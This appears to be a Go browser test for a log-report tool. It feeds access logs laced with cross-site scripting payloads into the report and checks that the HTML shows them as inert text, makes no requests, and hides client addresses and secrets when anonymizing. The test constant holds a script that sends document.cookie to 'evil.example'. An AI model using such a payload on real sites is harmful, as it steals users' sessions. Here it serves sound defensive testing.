package browser_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/httplimit/httplimit/e2e/browser"
)

const attack = `<script>fetch('//evil.example/'+document.cookie)</script><img src=//evil.example/x onerror=alert(1)>`

// planned runs the command on a log whose clients send what they hope to become part of the page, and returns the page.
func planned(t *testing.T, flags ...string) string {
	t.Helper()
	folder := t.TempDir()
	var log strings.Builder
	for i := range 3000 {
		path := strings.ReplaceAll(attack, " ", "/") + "?session=secret"
		agent := attack + strings.Repeat("x", i%3)
		fmt.Fprintf(&log, `203.0.113.%d - %s [03/Mar/2026:10:%02d:%02d +0000] "GET /%s HTTP/1.1" 200 5 "-" "%s"`+"\n",
			i%250, "user", i/60, i%60, path, agent)
	}
	write := func(name, text string) string {
		name = filepath.Join(folder, name)
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return name
	}
	policy := write("policy.json", `{"rules": [
		{"name": "address", "key": "ip", "limit": "1/5m"},
		{"name": "attack", "key": "ip", "limit": "1/h sliding-log", "when": ["GET /"]},
		{"name": "key", "key": "apikey:X-API-Key", "limit": "1/m"}]}`)
	page := filepath.Join(folder, "report.html")
	args := append([]string{"run", ".", "plan", "-policy", policy, "-o", page}, flags...)
	run := exec.Command("go", append(args, write("access.log", log.String()))...)
	run.Dir = command
	if out, err := run.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	text, err := os.ReadFile(page)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

func TestPlannedReport(t *testing.T) {
	t.Parallel()
	page := planned(t)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte(page))
	}))
	t.Cleanup(server.Close)
	p := browser.Start(t).Open(t, server.URL+"/report.html", browser.Look{Width: 1600, Height: 1000})
	p.Screenshot(t, "report-planned")
	drawn(t, p)
	none(t, "low contrast", p.LowContrast(t, shapes))
	none(t, "cut off", p.Cut(t))
	none(t, "nameless", p.Nameless(t))
	agents := browser.Eval[int](t, p, `[...document.querySelectorAll('.refused td')]
		.filter(e => e.textContent.includes("<script>fetch('//evil.example/'")).length`)
	theirs := browser.Eval[int](t, p, `document.querySelectorAll('script, img, [onerror]').length`)
	if agents == 0 || theirs != 0 {
		t.Errorf("%d cells show what clients sent, want some; %d elements are theirs", agents, theirs)
	}
	none(t, "request", p.Requests())
	none(t, "fault", p.Faults())
}

func TestAnonymizedReportNamesNobody(t *testing.T) {
	t.Parallel()
	if page := planned(t); !strings.Contains(page, "203.0.113.") {
		t.Fatal("the report names no client at all, so this test would not notice one")
	}
	page := planned(t, "-anonymize")
	for _, told := range []string{"203.0.113.", "session", "secret"} {
		if at := strings.Index(page, told); at >= 0 {
			t.Errorf("the report tells %q: %s", told, page[max(0, at-60):at+60])
		}
	}
}
